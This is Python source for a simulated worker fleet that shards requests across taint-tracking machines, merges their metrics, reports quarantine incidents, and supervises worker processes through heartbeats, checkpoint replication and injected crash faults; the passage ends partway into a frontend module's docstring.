            elif key in CONFIG_KEYS or key.endswith(".max"):
                merged[key] = max(merged.get(key, value), value)
            elif key.endswith(".miss_rate") or key.endswith(".mean"):
                # Recomputed below from their summed inputs.
                merged.setdefault(key, 0.0)
            else:
                merged[key] = merged.get(key, 0) + value
    # Recompute ratios from the summed raw counts.
    for key in [k for k in merged if k.endswith(".miss_rate")]:
        prefix = key[:-len(".miss_rate")]
        accesses = merged.get(f"{prefix}.accesses", 0)
        misses = merged.get(f"{prefix}.misses", 0)
        merged[key] = round(misses / accesses, 6) if accesses else 0.0
    for key in [k for k in merged if k.endswith(".mean")]:
        prefix = key[:-len(".mean")]
        count = merged.get(f"{prefix}.count", 0)
        total = merged.get(f"{prefix}.sum", 0.0)
        merged[key] = total / count if count else 0.0
    return merged


#: Merged keys that stay gauges in the fleet registry (point-in-time or
#: configuration); everything else is a counter.
_GAUGE_KEYS = ("net.pending", "net.capacity", "mem.pages_touched",
               "taint.bitmap_population", "taint.granularity",
               "threads.count", "trace.origins", "adaptive.mode",
               "adaptive.spec.active", "adaptive.spec.watch_ranges")


def merge_worker_metrics(result):
    """Build the fleet :class:`MetricsRegistry` for one FleetResult."""
    from repro.obs.metrics import MetricsRegistry

    reg = MetricsRegistry()
    merged = merge_metric_dicts([w["metrics"] for w in result.workers])
    for key in sorted(merged):
        if key in _GAUGE_KEYS or key.endswith(".miss_rate"):
            reg.gauge(key).set(merged[key])
        else:
            reg.counter(key).value = merged[key]
    reg.gauge("fleet.workers", "workers started").set(len(result.workers))
    reg.gauge("fleet.workers_ejected", "workers removed from rotation").set(
        len(result.ejected))
    reg.counter("fleet.requests", "requests submitted").value = result.requests
    reg.counter("fleet.served", "clean requests answered").value = result.served
    reg.counter("fleet.quarantined",
                "requests quarantined by rollback").value = result.quarantined
    reg.counter("fleet.spilled",
                "requests past their first-choice worker").value = result.spilled
    reg.counter("fleet.dropped_frontend",
                "requests refused by the frontend").value = result.dropped
    reg.counter("fleet.rerouted",
                "requests re-routed after ejection").value = result.rerouted
    reg.counter("fleet.unserved",
                "requests orphaned with no survivor").value = result.unserved
    reg.gauge("fleet.sim_cycles",
              "slowest worker's simulated cycles").set(result.sim_cycles)
    reg.gauge("fleet.sim_throughput",
              "served requests per 1e9 simulated cycles").set(
        round(result.sim_throughput, 6))
    if result.wall_seconds:
        reg.gauge("fleet.wall_seconds",
                  "host wall-clock seconds for the run").set(
            round(result.wall_seconds, 6))
    for wid, busy in sorted(result.utilization.items()):
        reg.gauge(f"fleet.utilization.{wid}",
                  "worker busy cycles / slowest worker's cycles").set(
            round(busy, 6))
    return reg


def frontend_metrics(frontend, registry=None):
    """Routing-layer instruments for one live :class:`FleetFrontend`.

    ``frontend.dropped`` counts spill-then-drop rejections (every
    routable queue full), ``frontend.spilled`` requests pushed past
    their first-choice worker; per-worker ``frontend.depth.*`` gauges
    come from the public :meth:`FleetFrontend.depths` snapshot.
    """
    from repro.obs.metrics import MetricsRegistry

    reg = registry or MetricsRegistry()
    reg.counter("frontend.dropped",
                "requests refused with every routable queue full").value = \
        frontend.dropped
    reg.counter("frontend.spilled",
                "requests past their first-choice worker").value = \
        frontend.spilled
    reg.counter("frontend.rejected",
                "requests shed by admission control (503)").value = \
        frontend.rejected
    reg.counter("fleet.retransmits",
                "frame retransmissions after loss/corruption").value = \
        frontend.retransmits
    reg.counter("fleet.frame_rejects",
                "wire frames refused (bad magic/CRC)").value = \
        frontend.frame_rejects
    reg.counter("fleet.frames_lost",
                "wire frames dropped in flight").value = \
        frontend.frames_lost
    reg.gauge("frontend.queued",
              "requests waiting across healthy workers").set(
        frontend.total_queued)
    reg.gauge("frontend.workers_routable",
              "workers accepting new requests").set(frontend.routable_count)
    reg.gauge("frontend.workers_healthy",
              "workers in rotation (draining included)").set(
        frontend.healthy_count)
    for wid, depth in sorted(frontend.depths().items()):
        reg.gauge(f"frontend.depth.{wid}",
                  "requests queued at one worker").set(depth["queued"])
    return reg


def incident_report(result) -> Dict:
    """Structured fleet incident report for one FleetResult.

    ``incidents`` lists every quarantine with the worker that rolled
    back, the request it quarantined, the policy that fired and the
    taint-origin chain behind it; ``ejections`` lists workers removed
    from rotation and why.
    """
    return {
        "incidents": result.incidents(),
        "ejections": [
            {"worker": w["worker_id"],
             "error": w["error"],
             "unserved_requests": len(w["unserved"])}
            for w in result.workers if not w["completed"]
        ],
        "alerts": [a for w in result.workers for a in w["alerts"]],
        "summary": {
            "workers": len(result.workers),
            "ejected": result.ejected,
            "requests": result.requests,
            "served": result.served,
            "quarantined": result.quarantined,
            "rerouted": result.rerouted,
            "unserved": result.unserved,
        },
    }


def render_incidents(result) -> str:
    """Human-readable fleet incident log, one line per event."""
    report = incident_report(result)
    lines: List[str] = []
    for inc in report["incidents"]:
        origin = "; ".join(inc["origins"]) or "no recorded origin"
        policy = f" [{inc['policy_id']}]" if inc["policy_id"] else ""
        lines.append(
            f"{inc['worker']}: quarantined request #{inc['request_index']} "
            f"({inc['reason']}{policy}) <- {origin}")
    for ej in report["ejections"]:
        err = ej["error"] or {}
        lines.append(
            f"{ej['worker']}: EJECTED ({err.get('type', '?')}: "
            f"{err.get('message', '')}), "
            f"{ej['unserved_requests']} request(s) orphaned")
    if not lines:
        lines.append("fleet healthy: no incidents")
    return "\n".join(lines)
