"""Fleet execution: N worker Machines behind one frontend.

Two drivers share one worker implementation:

* **in-process** (default): workers run sequentially in this process.
  Simulated time still models the fleet as parallel hardware — the
  fleet's simulated duration is the *maximum* worker cycle count, since
  real workers run concurrently — while staying single-threaded and
  bit-deterministic, which is what the tests and the CI gate use.
* **multiprocessing**: each worker owns its Machine in its own OS
  process (``processes=True``).  Routing happens up front in the parent
  with a seeded frontend, so the request->worker assignment — and hence
  every worker's simulated execution — is identical to the in-process
  driver no matter how the host schedules the processes.

Workers default to ``engine_mode="recover"``: a worker that catches an
attack rolls back via :mod:`repro.resil` and keeps serving (it stays in
rotation, the request is quarantined).  A worker that dies anyway —
alert in ``raise`` mode, unrecoverable fault — is ejected, and the
in-process driver re-routes its unserved requests to workers that have
not yet run.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.compiler.instrument import ShiftOptions
from repro.fleet.frontend import FleetFrontend, Request
from repro.fleet.wire import TaggedMessage
from repro.taint.policy import PolicyConfig

#: Default per-worker instruction budget.
MAX_INSTRUCTIONS = 1_000_000_000


@dataclass
class FleetConfig:
    """Everything needed to build one worker Machine (picklable)."""

    variant: str = "standard"
    options: Optional[ShiftOptions] = None
    policy: Optional[PolicyConfig] = None
    sizes: Tuple[int, ...] = (4,)
    engine: str = "predecoded"
    engine_mode: str = "recover"
    recover_watchdog: Optional[int] = 5_000_000
    #: Bound on each worker Machine's own pending queue (the device
    #: level bound; the frontend's queue_capacity bounds routing).
    net_capacity: Optional[int] = None
    #: Record outbound taint flags on every connection (proxy tiers set
    #: this so responses can leave as TaggedMessages).
    capture_taint: bool = False
    tracing: bool = False
    #: Shared trace path; each worker's machine id derives its own file.
    trace_path: Optional[str] = None
    #: Per-worker on-demand tracking (repro.adaptive): "none", "on",
    #: "track" or "speculate" (repro.spec fast-path execution) — see
    #: :data:`repro.harness.runners.ADAPTIVE_MODES`.
    adaptive: str = "none"
    max_instructions: int = MAX_INSTRUCTIONS


#: A request as shipped to a worker: (payload, packed tags or None).
EncodedRequest = Tuple[bytes, Optional[bytes]]


def encode_request(request: Request) -> EncodedRequest:
    """Normalise a raw-bytes or TaggedMessage request for a worker."""
    if isinstance(request, TaggedMessage):
        return (request.payload, request.tags)
    return (bytes(request), None)


def build_worker(config: FleetConfig, worker_id: str):
    """Build one worker Machine from the shared fleet configuration."""
    from repro.harness.runners import build_web_machine

    return build_web_machine(
        config.variant, config.options,
        policy_config=config.policy,
        sizes=config.sizes,
        engine=config.engine,
        engine_mode=config.engine_mode,
        recover_watchdog=config.recover_watchdog,
        machine_id=worker_id,
        net_capacity=config.net_capacity,
        tracing=config.tracing,
        trace_path=config.trace_path,
        adaptive=config.adaptive,
    )


def run_worker(config: FleetConfig, worker_id: str,
               requests: Sequence[EncodedRequest]) -> Tuple[Dict, object]:
    """Run one worker over its routed requests; (summary, machine).

    The summary is a plain picklable dict — the multiprocessing driver
    returns only the summary, the in-process driver keeps the machine
    too (for tests and forensics).
    """
    from repro.cpu.faults import Fault
    from repro.taint.engine import SecurityAlert

    machine = build_worker(config, worker_id)
    for payload, tags in requests:
        machine.net.add_request(payload, taint_mask=tags,
                                capture_taint=config.capture_taint)
    served: Optional[int] = None
    error = None
    try:
        served = machine.run(max_instructions=config.max_instructions)
    except SecurityAlert as exc:
        error = {"type": "alert", "message": str(exc),
                 "policy_id": exc.policy_id}
    except Fault as exc:
        error = {"type": "fault", "message": str(exc), "policy_id": ""}
    counters = machine.counters
    summary = {
        "worker_id": worker_id,
        "requests": len(requests),
        "served": served,
        "completed": error is None,
        "error": error,
        "cycles": counters.cycles,
        "io_cycles": counters.io_cycles,
        "instructions": counters.instructions,
        "alerts": [
            {"worker": worker_id, "policy_id": a.policy_id,
             "message": a.message, "context": a.context,
             "origins": [o.describe() for o in a.origins]}
            for a in machine.alerts
        ],
        "incidents": _incident_dicts(machine, worker_id),
        "quarantined": len(machine.net.quarantined),
        "net_dropped": machine.net.dropped,
        "unserved": [
            (bytes(c.inbound), c.taint_mask) for c in machine.net.pending
        ],
        "responses": [bytes(c.outbound) for c in machine.net.completed],
        "metrics": machine.metrics().to_dict(),
        "spec": (None if machine.spec is None else {
            "epochs": machine.spec.epochs,
            "commits": machine.spec.commits,
            "rollbacks": machine.spec.rollbacks,
            "committed_instructions": machine.spec.committed_instructions,
            "wasted_instructions": machine.spec.wasted_instructions,
            "deferred_sends": machine.spec.deferred_sends,
            "deferred_bytes": machine.spec.deferred_bytes,
        }),
        "trace_path": machine.trace_path,
    }
    return summary, machine


def migrate_worker(config: FleetConfig, source_machine, new_worker_id: str,
                   *, at_request: Optional[int] = None):
    """Move a worker's live session onto a freshly built machine.

    Packs the source (base + COW deltas, taint bitmap, provenance, fd
    and device queues — see :mod:`repro.resil.migrate`) and rehydrates
    the blob on a new worker built from the same fleet configuration.
    Returns ``(blob, target_machine)``; the caller runs the target to
    continue serving the migrated pending queue.

    ``at_request`` selects the chain checkpoint at which ``Connection``
    with that arrival index was at the head of the pending queue —
    "migrate the session just before request N" — instead of the
    source's current state.
    """
    from repro.resil.migrate import pack_worker, rehydrate_worker

    checkpoint = None
    if at_request is not None:
        sup = getattr(source_machine, "resil", None)
        if sup is None:
            raise ValueError(
                "at_request needs a supervised (recover-mode) source")
        for node in sup.chain:
            if node.pending_head_index == at_request:
                checkpoint = node
                break
        else:
            raise ValueError(
                f"no chain checkpoint has request {at_request} pending")
    blob = pack_worker(source_machine, checkpoint)
    target = build_worker(config, new_worker_id)
    rehydrate_worker(blob, target)
    return blob, target


def _incident_dicts(machine, worker_id: str) -> List[Dict]:
    sup = getattr(machine, "resil", None)
    if sup is None:
        return []
    alerts_by_count = {a.instruction_count: a for a in machine.alerts}
    out = []
    for inc in sup.incidents:
        alert = alerts_by_count.get(inc.instruction_count)
        out.append({
            "worker": inc.worker or worker_id,
            "request_index": inc.request_index,
            "reason": inc.reason,
            "policy_id": inc.policy_id,
            "message": inc.message,
            "pc": inc.pc,
            "instruction_count": inc.instruction_count,
            "origins": ([o.describe() for o in alert.origins]
                        if alert is not None else []),
        })
    return out


def _mp_entry(args) -> Dict:
    """Top-level multiprocessing target (must be picklable by name)."""
    config, worker_id, requests = args
    summary, _machine = run_worker(config, worker_id, requests)
    return summary


@dataclass
class FleetResult:
    """Outcome of one fleet run."""

    workers: List[Dict]
    routed: Dict[str, int]
    requests: int
    #: Requests the frontend refused outright (all queues full).
    dropped: int
    #: Requests that spilled past their first-choice worker.
    spilled: int
    #: Requests re-routed after a worker ejection.
    rerouted: int = 0
    #: Requests that never ran (owner ejected, no survivor left to run).
    unserved: int = 0
    wall_seconds: float = 0.0
    machines: Dict[str, object] = field(default_factory=dict)

    @property
    def served(self) -> int:
        """Clean requests answered across the fleet."""
        return sum(w["served"] or 0 for w in self.workers)

    @property
    def quarantined(self) -> int:
        """Requests quarantined by worker-level rollback recovery."""
        return sum(w["quarantined"] for w in self.workers)

    @property
    def sim_cycles(self) -> float:
        """Fleet simulated duration: the slowest worker's cycles.

        Workers are independent machines running concurrently, so fleet
        wall-time-in-simulation is a max, not a sum — this is the number
        the 1->N throughput-scaling claim is measured against.
        """
        return max((w["cycles"] for w in self.workers), default=0.0)

    @property
    def sim_throughput(self) -> float:
        """Served requests per billion simulated cycles."""
        cycles = self.sim_cycles
        return self.served / (cycles / 1e9) if cycles else 0.0

    @property
    def ejected(self) -> List[str]:
        """Ids of workers removed from rotation."""
        return [w["worker_id"] for w in self.workers if not w["completed"]]

    @property
    def utilization(self) -> Dict[str, float]:
        """Per-worker busy fraction: own cycles / slowest worker's cycles.

        The fleet's simulated duration is the slowest worker's cycle
        count, so a worker at 1.0 ran the whole time and a worker at
        0.5 sat idle for half the fleet run — the imbalance fleetbench
        and servebench compare.
        """
        sim = self.sim_cycles
        if not sim:
            return {w["worker_id"]: 0.0 for w in self.workers}
        return {w["worker_id"]: w["cycles"] / sim for w in self.workers}

    def metrics(self):
        """Merged fleet-level metrics registry (see repro.fleet.observe)."""
        from repro.fleet.observe import merge_worker_metrics

        return merge_worker_metrics(self)

    def incidents(self) -> List[Dict]:
        """Every worker incident, ordered by worker then occurrence."""
        out: List[Dict] = []
        for worker in self.workers:
            out.extend(worker["incidents"])
        return out

    def digest(self) -> str:
        """Deterministic fingerprint of the fleet's observable outcome.

        Two runs with the same seed must produce the same digest — this
        is the bit-reproducibility check fleetbench gates on.
        """
        import hashlib
        import json

        canonical = [
            {
                "worker": w["worker_id"],
                "served": w["served"],
                "cycles": w["cycles"],
                "instructions": w["instructions"],
                "quarantined": w["quarantined"],
                "responses": [hashlib.sha256(r).hexdigest()
                              for r in w["responses"]],
            }
            for w in sorted(self.workers, key=lambda w: w["worker_id"])
        ]
        blob = json.dumps(canonical, sort_keys=True).encode()
        return hashlib.sha256(blob).hexdigest()


class FleetDriver:
    """Routes a batch of requests and executes the worker fleet."""

    def __init__(self, config: Optional[FleetConfig] = None, *,
                 workers: int = 2, routing: str = "round_robin",
                 seed: int = 0, queue_capacity: Optional[int] = None) -> None:
        if workers <= 0:
            raise ValueError("fleet needs at least one worker")
        self.config = config or FleetConfig()
        self.worker_ids = [f"w{i}" for i in range(workers)]
        self.routing = routing
        self.seed = seed
        self.queue_capacity = queue_capacity

    def _route(self, requests: Sequence[Request]) -> FleetFrontend:
        frontend = FleetFrontend(
            self.worker_ids, policy=self.routing, seed=self.seed,
            queue_capacity=self.queue_capacity)
        frontend.submit_all(requests)
        return frontend

    def run(self, requests: Sequence[Request], *,
            processes: bool = False) -> FleetResult:
        """Route and execute; ``processes=True`` fans out via fork/spawn."""
        frontend = self._route(requests)
        started = time.perf_counter()
        if processes:
            result = self._run_processes(frontend)
        else:
            result = self._run_inline(frontend)
        result.requests = len(requests)
        result.wall_seconds = time.perf_counter() - started
        return result

    def _run_inline(self, frontend: FleetFrontend) -> FleetResult:
        summaries: List[Dict] = []
        machines: Dict[str, object] = {}
        rerouted = 0
        unserved = 0
        pending_ids = list(self.worker_ids)
        routed = {wid: len(frontend.slots[wid].queue)
                  for wid in self.worker_ids}
        while pending_ids:
            wid = pending_ids.pop(0)
            batch = [encode_request(r) for r in frontend.slots[wid].queue]
            frontend.slots[wid].queue.clear()
            summary, machine = run_worker(self.config, wid, batch)
            summaries.append(summary)
            machines[wid] = machine
            if summary["completed"]:
                continue
            # Health ejection: hand the dead worker's unserved requests
            # to workers that have not run yet (the survivors).
            frontend.eject(wid, summary["error"]["message"])
            orphans = summary["unserved"]
            survivors = [s for s in pending_ids if frontend.slots[s].healthy]
            if not survivors:
                unserved += len(orphans)
                continue
            for i, (payload, tags) in enumerate(orphans):
                target = survivors[i % len(survivors)]
                frontend.slots[target].queue.append(
                    TaggedMessage(payload=payload, tags=tags)
                    if tags is not None else payload)
                rerouted += 1
        return FleetResult(
            workers=summaries, routed=routed, requests=0,
            dropped=frontend.dropped, spilled=frontend.spilled,
            rerouted=rerouted, unserved=unserved, machines=machines)

    def run_supervised(self, requests: Sequence[Request], *,
                       chaos=None, supervision=None,
                       shed_limit: Optional[int] = None) -> Dict:
        """Multiprocessing execution with heartbeats and crash recovery.

        Unlike :meth:`run`'s plain ``processes=True`` path — where a
        worker process that dies takes its batch with it — this path
        supervises every worker (heartbeat failure detection, periodic
        ``SHFTMIG1`` checkpoint replication, replacement spawn via
        ``add_worker``, journal-driven replay) and survives the real
        ``SIGKILL``/stall faults a :class:`~repro.chaos.schedule
        .ChaosSchedule`'s directives inject.  Returns the supervised
        report dict (see :class:`repro.fleet.supervised
        .SupervisedFleet`); wall-clock numbers are real, the
        exactly-once accounting is the part worth gating.
        """
        from repro.fleet.supervised import SupervisedFleet

        fleet = SupervisedFleet(
            self.config, workers=len(self.worker_ids),
            seed=self.seed, routing=self.routing,
            shed_limit=shed_limit, supervision=supervision, chaos=chaos)
        encoded = []
        for i, request in enumerate(requests):
            payload, tags = encode_request(request)
            encoded.append((i, payload, tags, "clean"))
        return fleet.run(encoded)

    def _run_processes(self, frontend: FleetFrontend) -> FleetResult:
        import multiprocessing as mp

        try:
            ctx = mp.get_context("fork")
        except ValueError:  # platforms without fork
            ctx = mp.get_context("spawn")
        jobs = []
        routed = {}
        for wid in self.worker_ids:
            batch = [encode_request(r) for r in frontend.slots[wid].queue]
            frontend.slots[wid].queue.clear()
            routed[wid] = len(batch)
            jobs.append((self.config, wid, batch))
        with ctx.Pool(processes=len(jobs)) as pool:
            summaries = pool.map(_mp_entry, jobs)
        unserved = sum(len(s["unserved"]) for s in summaries
                       if not s["completed"])
        return FleetResult(
            workers=summaries, routed=routed, requests=0,
            dropped=frontend.dropped, spilled=frontend.spilled,
            rerouted=0, unserved=unserved)
