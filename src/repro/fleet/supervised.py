"""Supervised multiprocessing fleet: real processes, real SIGKILL.

:class:`FleetDriver`'s plain multiprocessing path assumes every worker
process returns; a worker that dies takes its queue and its quarantine
evidence with it.  :class:`SupervisedFleet` is the chaos-tolerant
version: each worker process serves one request per message, emits
heartbeats while idle, and periodically ships its packed machine state
(a real ``SHFTMIG1`` blob with a request-index watermark) back to the
parent.  The parent runs the failure detector — a worker is declared
dead when its process object reports dead *or* its heartbeats go
silent past the detector's patience — and recovery then:

1. rehydrates a replacement machine from the last replicated blob
   (:func:`repro.chaos.replica.recover_from_replica`), preserving the
   quarantine evidence the blob carried;
2. joins a *new process* to the rotation via
   :meth:`FleetFrontend.add_worker` — the wall-clock arm's first real
   scale-up — and
3. replays exactly the request-id journal's open set for the dead
   worker, so completed requests never re-run and in-flight ones never
   get lost.

Chaos directives (:class:`repro.chaos.schedule.WorkerChaos`) make the
failures real: ``crash_after=N`` has the worker ``SIGKILL`` itself the
moment it picks up its Nth request — a fail-stop at a request
boundary, the same crash model the simulated arm injects — and
``stall_after`` freezes it long enough to be declared dead, after
which its late acknowledgements arrive anyway and the journal
suppresses them (a real zombie, on real processes).

Wall-clock results are not bit-reproducible; the gateable version of
this story is the simulated arm in :mod:`repro.serve.simclock`.  This
module is its reality check.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from queue import Empty
from typing import Dict, List, Optional, Sequence, Tuple

from repro.chaos.journal import RequestJournal
from repro.chaos.replica import Replica, ReplicaStore, recover_from_replica
from repro.chaos.schedule import ChaosSchedule
from repro.fleet.driver import FleetConfig, run_worker
from repro.fleet.frontend import FleetFrontend

__all__ = ["SupervisedFleet", "SupervisionConfig"]


@dataclass(frozen=True)
class SupervisionConfig:
    """Wall-clock failure-detection and replication tuning."""

    #: Seconds between idle-worker heartbeats.
    heartbeat_seconds: float = 0.25
    #: Missed heartbeat intervals before a silent worker is declared dead.
    miss_threshold: int = 4
    #: Completed requests between blob replications (0 = never).
    replicate_every: int = 2
    #: Parent poll granularity while supervising.
    poll_seconds: float = 0.05
    #: Overall deadline for one run (a chaos run must still terminate).
    result_timeout: float = 120.0

    def __post_init__(self) -> None:
        if self.heartbeat_seconds <= 0 or self.poll_seconds <= 0:
            raise ValueError("supervision intervals must be positive")
        if self.miss_threshold < 1:
            raise ValueError("miss threshold must be at least 1")

    @property
    def detection_seconds(self) -> float:
        """Worst-case silence before a worker is declared dead."""
        return self.heartbeat_seconds * self.miss_threshold


def _supervised_worker(config, worker_id, inbox, outbox, directive,
                       heartbeat_seconds, replicate_every):
    """Worker-process loop: one request per message, heartbeats aside.

    A daemon thread beats every ``heartbeat_seconds`` so a worker deep
    in a slow request still looks alive; a ``stall_after`` directive
    suppresses the beats for the stall's duration (a frozen process is
    silent *everywhere*, not just on its result queue).  A
    ``crash_after`` directive is honoured at the request *boundary* —
    the SIGKILL fires before any of the doomed request's work (or acks)
    run, so the parent's journal sees a cleanly open request, never a
    torn acknowledgement.
    """
    import os
    import signal
    import threading

    from repro.resil.migrate import pack_worker

    beating = threading.Event()
    beating.set()

    def pulse():
        while True:
            if beating.is_set():
                outbox.put({"type": "heartbeat", "worker": worker_id})
            time.sleep(heartbeat_seconds)

    threading.Thread(target=pulse, daemon=True).start()

    picked_up = 0
    completed = 0
    while True:
        item = inbox.get()
        if item is None:
            return
        index, payload, tags = item
        picked_up += 1
        if directive is not None:
            if directive.crash_after is not None \
                    and picked_up == directive.crash_after:
                os.kill(os.getpid(), signal.SIGKILL)
            if directive.stall_after is not None \
                    and picked_up == directive.stall_after:
                beating.clear()
                time.sleep(directive.stall_seconds)
                beating.set()
        started = time.perf_counter()
        summary, machine = run_worker(config, worker_id, [(payload, tags)])
        finished = time.perf_counter()
        completed += 1
        outbox.put({
            "type": "done",
            "index": index,
            "worker": worker_id,
            "started": started,
            "finished": finished,
            "served": summary["served"] or 0,
            "quarantined": summary["quarantined"],
            "alerts": len(summary["alerts"]),
            "fatal": summary["error"] is not None,
            "incidents": summary["incidents"],
        })
        if replicate_every and completed % replicate_every == 0:
            blob = pack_worker(machine, watermark=index,
                               reason="replicate")
            outbox.put({
                "type": "replica",
                "worker": worker_id,
                "watermark": index,
                "blob": blob,
            })


class SupervisedFleet:
    """Crash-supervised multiprocessing serving over one frontend."""

    def __init__(self, config: Optional[FleetConfig] = None, *,
                 workers: int = 2, seed: int = 0, routing: str = "hash",
                 shed_limit: Optional[int] = None,
                 supervision: Optional[SupervisionConfig] = None,
                 chaos: Optional[ChaosSchedule] = None) -> None:
        if workers <= 0:
            raise ValueError("a fleet needs at least one worker")
        self.config = config or FleetConfig()
        self.initial_workers = workers
        self.seed = seed
        self.routing = routing
        self.shed_limit = shed_limit
        self.supervision = supervision or SupervisionConfig()
        self.chaos = chaos

    # -- internals -------------------------------------------------------

    def _spawn(self, ctx, wid, outbox):
        directive = (self.chaos.directives.get(wid)
                     if self.chaos is not None else None)
        inbox = ctx.Queue()
        proc = ctx.Process(
            target=_supervised_worker,
            args=(self.config, wid, inbox, outbox, directive,
                  self.supervision.heartbeat_seconds,
                  self.supervision.replicate_every),
            daemon=True)
        proc.start()
        return {"proc": proc, "inbox": inbox,
                "last_seen": time.perf_counter(), "dead": False}

    def run(self, requests: Sequence[Tuple[int, bytes, Optional[bytes], str]],
            *, arrivals: Optional[Dict[int, float]] = None,
            time_scale: float = 1e6) -> Dict:
        """Serve ``(index, payload, tags, kind)`` tuples supervised.

        ``arrivals`` maps request index to a cycle stamp; when given,
        submissions are paced at ``arrival / time_scale`` seconds after
        the epoch (the wall-clock arm's open-loop schedule).  Returns a
        JSON-ready report; wall-clock numbers are real and therefore
        not gateable — the exactly-once accounting is.
        """
        import multiprocessing as mp

        from repro.serve.simclock import percentile

        try:
            ctx = mp.get_context("fork")
        except ValueError:  # platforms without fork
            ctx = mp.get_context("spawn")

        # Warm the process-wide compile caches pre-fork.
        from repro.fleet.driver import build_worker

        build_worker(self.config, "sup-warm")

        sup = self.supervision
        frontend = FleetFrontend(
            [f"w{i}" for i in range(self.initial_workers)],
            policy=self.routing, seed=self.seed,
            shed_limit=self.shed_limit)
        outbox = ctx.Queue()
        fleet: Dict[str, Dict] = {
            wid: self._spawn(ctx, wid, outbox) for wid in frontend.order
        }
        journal = RequestJournal()
        store = ReplicaStore()
        sent: Dict[int, Tuple[bytes, Optional[bytes], str]] = {}
        completions: Dict[int, Dict] = {}
        recoveries: List[Dict] = []
        evidence_recovered: List[Dict] = []
        shed = 0
        next_worker = self.initial_workers
        epoch = time.perf_counter()

        def handle(msg) -> None:
            wid = msg["worker"]
            state = fleet.get(wid)
            if state is not None:
                state["last_seen"] = time.perf_counter()
            if msg["type"] == "heartbeat":
                return
            if msg["type"] == "replica":
                store.store(Replica(
                    worker=wid, watermark=msg["watermark"],
                    evidence=sum(
                        c["quarantined"] for c in completions.values()
                        if c["worker"] == wid),
                    time=time.perf_counter() - epoch,
                    blob=msg["blob"]))
                return
            # done
            index = msg["index"]
            if journal.complete(index, "done"):
                completions[index] = msg
                # Outstanding-depth bookkeeping: one completion frees
                # one queued slot entry (admission control keys off it).
                owner_slot = frontend.slots.get(journal.owner(index) or "")
                if owner_slot is not None and owner_slot.queue:
                    owner_slot.queue.pop(0)

        def drain(timeout: float) -> None:
            try:
                handle(outbox.get(timeout=timeout))
            except Empty:
                pass

        def detect_and_recover() -> None:
            nonlocal next_worker
            now = time.perf_counter()
            for wid in list(fleet):
                state = fleet[wid]
                if state["dead"]:
                    continue
                silent = now - state["last_seen"] > sup.detection_seconds
                crashed = not state["proc"].is_alive()
                if not crashed and not silent:
                    continue
                failed_at = state["last_seen"]
                state["dead"] = True
                frontend.eject(wid, "crash" if crashed else "stall")
                # Rehydrate the last replicated blob: this exercises
                # the real SHFTMIG1 path and recovers the quarantine
                # evidence the dead worker had already banked.
                replica = store.latest(wid)
                evidence: List[Dict] = []
                new_wid = f"w{next_worker}"
                next_worker += 1
                if replica is not None and replica.blob is not None:
                    _machine, evidence = recover_from_replica(
                        replica, self.config, new_wid)
                    evidence_recovered.extend(evidence)
                frontend.add_worker(new_wid)
                fleet[new_wid] = self._spawn(ctx, new_wid, outbox)
                open_ids = journal.open_for(wid)
                journal.reassign(open_ids, new_wid)
                for index in open_ids:
                    payload, tags, _kind = sent[index]
                    frontend.slots[new_wid].queue.append(payload)
                    fleet[new_wid]["inbox"].put((index, payload, tags))
                recoveries.append({
                    "worker": wid,
                    "replacement": new_wid,
                    "cause": "crash" if crashed else "stall",
                    "detected_after": round(now - failed_at, 3),
                    "watermark": (replica.watermark
                                  if replica is not None else -1),
                    "evidence": len(evidence),
                    "replayed": len(open_ids),
                })

        try:
            for index, payload, tags, kind in requests:
                if arrivals is not None:
                    target = epoch + arrivals.get(index, 0.0) / time_scale
                    while True:
                        remaining = target - time.perf_counter()
                        if remaining <= 0:
                            break
                        drain(min(remaining, sup.poll_seconds))
                        detect_and_recover()
                shed_before = frontend.rejected
                wid = frontend.submit(payload)
                if wid is None:
                    if frontend.rejected > shed_before:
                        shed += 1
                    continue
                if fleet[wid]["dead"]:
                    # Routed to a corpse between detection passes: the
                    # journal will replay it, but prefer a live target.
                    live = [w for w in frontend.order
                            if w in fleet and not fleet[w]["dead"]
                            and frontend.slots[w].routable]
                    if live:
                        wid = min(live,
                                  key=lambda w: len(frontend.slots[w].queue))
                sent[index] = (payload, tags, kind)
                journal.admit(index, wid)
                fleet[wid]["inbox"].put((index, payload, tags))
                drain(0.001)
                detect_and_recover()

            deadline = time.perf_counter() + sup.result_timeout
            while journal.open_count > 0:
                if time.perf_counter() > deadline:
                    break
                drain(sup.poll_seconds)
                detect_and_recover()
            # Late zombie acknowledgements that already arrived should
            # show up as suppressed duplicates, not vanish unread.
            while True:
                try:
                    handle(outbox.get_nowait())
                except Empty:
                    break
        finally:
            for state in fleet.values():
                try:
                    state["inbox"].put(None)
                except Exception:
                    pass
            for state in fleet.values():
                state["proc"].join(timeout=5.0)
                if state["proc"].is_alive():
                    state["proc"].terminate()

        wall_seconds = time.perf_counter() - epoch
        served = sum(c["served"] for c in completions.values())
        quarantined = sum(c["quarantined"] for c in completions.values())
        attacks = detected = false_alerts = 0
        latencies: List[float] = []
        for index, done in completions.items():
            _payload, _tags, kind = sent[index]
            latencies.append(done["finished"] - done["started"])
            if kind == "clean":
                false_alerts += done["alerts"]
            else:
                attacks += 1
                if done["quarantined"] or done["fatal"]:
                    detected += 1
        lat_ms = sorted(v * 1e3 for v in latencies)
        return {
            "mode": "supervised",
            "workers": self.initial_workers,
            "workers_final": sum(1 for s in fleet.values()
                                 if not s["dead"]),
            "requests": len(requests),
            "shed": shed,
            "completed": len(completions),
            "served": served,
            "quarantined": quarantined,
            "attacks": attacks,
            "detected": detected,
            "false_alerts": false_alerts,
            "journal": journal.to_dict(),
            "recoveries": recoveries,
            "evidence_recovered": len(evidence_recovered),
            "replication": store.to_dict(),
            "wall_seconds": round(wall_seconds, 3),
            "latency_ms": {
                "p50": round(percentile(lat_ms, 50.0), 3),
                "p95": round(percentile(lat_ms, 95.0), 3),
                "p99": round(percentile(lat_ms, 99.0), 3),
                "mean": (round(sum(lat_ms) / len(lat_ms), 3)
                         if lat_ms else 0.0),
            },
        }
