"""The fleet frontend: sharding requests across worker machines.

A :class:`FleetFrontend` is the load balancer in front of N worker
Machines.  It is host-side (the workers' guests never see it), fully
deterministic for a fixed seed, and enforces *backpressure*: each
worker has a bounded queue, a request that finds its chosen worker full
spills to the next healthy worker in deterministic order, and a request
that finds every queue full is dropped and counted — never buffered
unboundedly.

Routing policies
----------------
``round_robin``
    Requests take workers in arrival order modulo fleet size.
``least_loaded``
    Each request goes to the worker with the shortest queue (ties break
